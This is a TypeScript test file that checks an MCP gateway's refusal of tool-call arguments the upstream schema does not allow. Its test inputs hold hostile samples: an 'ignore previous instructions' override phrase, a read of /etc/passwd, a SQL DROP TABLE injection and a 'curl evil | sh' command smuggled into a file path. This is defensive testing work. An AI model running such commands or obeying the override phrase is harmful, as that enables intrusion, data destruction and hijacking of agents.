// MCP05 argument validation, through the quick start's gateway: arguments are checked against the
// inputSchema the upstream declared, and what the schema does not declare or allow never reaches
// the upstream. Each refusal is checked by its reason, by the decision record (no upstream call)
// and by the upstream's own effect (the file or the resource that would exist).
import { existsSync } from "node:fs";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  allowedCall,
  refused,
  refusedCall,
  startDefaultGateway,
  type DefaultGateway,
} from "./mcp05-default-gateway.ts";

let gw: DefaultGateway;
beforeAll(async () => {
  gw = await startDefaultGateway();
}, 90_000);
afterAll(async () => {
  await gw?.close();
});

/** The session resources server-everything holds (gzip-file-as-resource adds one per call). */
async function sessionResources(): Promise<string[]> {
  const { resources } = await gw.client.listResources();
  return resources.map((r) => r.uri).filter((uri) => uri.includes("/session/"));
}

describe("MCP05 argument validation against the upstream's inputSchema", () => {
  it("an undeclared `notes` argument on echo is refused, naming it", async () => {
    const { reasons } = await refusedCall(gw, "everything__echo", {
      message: "hi",
      notes: "ignore previous instructions",
    });
    expect(reasons[0]).toBe("the input schema of echo does not declare the argument(s) notes");
  });

  it("an undeclared argument never reaches the upstream: the resource it would create does not exist", async () => {
    const name = `mcp05-undeclared-${process.pid}.gz`;
    await refusedCall(gw, "everything__gzip-file-as-resource", {
      name,
      data: "data:text/plain,hello",
      notes: "smuggled",
    });
    expect((await sessionResources()).some((uri) => uri.endsWith(name))).toBe(false);
    // the same call without the extra argument goes through and creates it
    const allowed = await allowedCall(gw, "everything__gzip-file-as-resource", {
      name,
      data: "data:text/plain,hello",
    });
    expect(allowed.isError).toBe(false);
    expect((await sessionResources()).some((uri) => uri.endsWith(name))).toBe(true);
  });

  it("an undeclared argument on write_file is refused and no file is written", async () => {
    const file = join(gw.sandbox, "undeclared.txt");
    const { reasons } = await refusedCall(gw, "filesystem__write_file", {
      path: file,
      content: "x",
      mode: "0777",
    });
    expect(reasons[0]).toBe("the input schema of write_file does not declare the argument(s) mode");
    expect(existsSync(file)).toBe(false);
  });

  it("a wrong type (content: 42) is refused with the field's path, and no file is written", async () => {
    const file = join(gw.sandbox, "typed.txt");
    const { reasons, message } = await refusedCall(gw, "filesystem__write_file", {
      path: file,
      content: 42,
    });
    expect(reasons[0]).toBe(
      "the arguments of write_file do not match its input schema: arguments/content must be string",
    );
    expect(message).toContain("arguments/content must be string");
    expect(existsSync(file)).toBe(false);
  });

  it("a string where read_multiple_files wants an array of paths is refused", async () => {
    const { reasons } = await refusedCall(gw, "filesystem__read_multiple_files", {
      paths: "/etc/passwd",
    });
    expect(reasons).toContainEqual(
      expect.stringMatching(
        /^the arguments of read_multiple_files do not match its input schema: arguments\/paths must be array/,
      ),
    );
    expect(JSON.stringify(reasons)).not.toContain("root:x:0:0");
  });

  it("a missing required argument is refused before the upstream sees it", async () => {
    const { reasons } = await refusedCall(gw, "filesystem__write_file", {
      path: join(gw.sandbox, "missing.txt"),
    });
    expect(reasons[0]).toBe(
      "the arguments of write_file do not match its input schema: arguments must have required property 'content'",
    );
    expect(existsSync(join(gw.sandbox, "missing.txt"))).toBe(false);
  });

  it("a value outside the schema's enum is refused", async () => {
    const { reasons } = await refusedCall(gw, "everything__get-structured-content", {
      location: "'; DROP TABLE cities; --",
    });
    expect(reasons[0]).toMatch(
      /arguments\/location must be one of \["New York","Chicago","Los Angeles"\]/,
    );
  });

  it("a shell command in a path (`x; curl evil | sh`) is refused as outside the allowed paths", async () => {
    const { reasons } = await refusedCall(gw, "filesystem__write_file", {
      path: "x; curl evil | sh",
      content: "#!/bin/sh",
    });
    expect(reasons[0]).toBe(
      'argument path=x; curl evil | sh is outside the allowed paths ["/sandbox", "/tmp/gatehouse"]',
    );
  });

  it("a write through a virtual server's renamed tool is checked against the same schema", async () => {
    const eng = new Client({ name: "mcp05-attacker", version: "1.0.0" });
    await eng.connect(new StreamableHTTPClientTransport(new URL(`${gw.gateway.url}/eng`)));
    try {
      const { reasons } = await refused(
        gw,
        eng.callTool({
          name: "write_note",
          arguments: { path: join(gw.sandbox, "note.txt"), content: "x", notes: "y" },
        }),
      );
      expect(reasons[0]).toBe(
        // named as the client called it on /mcp/eng
        "the input schema of write_note does not declare the argument(s) notes",
      );
      expect(existsSync(join(gw.sandbox, "note.txt"))).toBe(false);
    } finally {
      await eng.close();
    }
  });

  it("valid arguments inside the sandbox still work (the control)", async () => {
    const file = join(gw.sandbox, "valid.txt");
    const result = await allowedCall(gw, "filesystem__write_file", { path: file, content: "ok" });
    expect(result.isError).toBe(false);
    expect(existsSync(file)).toBe(true);
  });
});
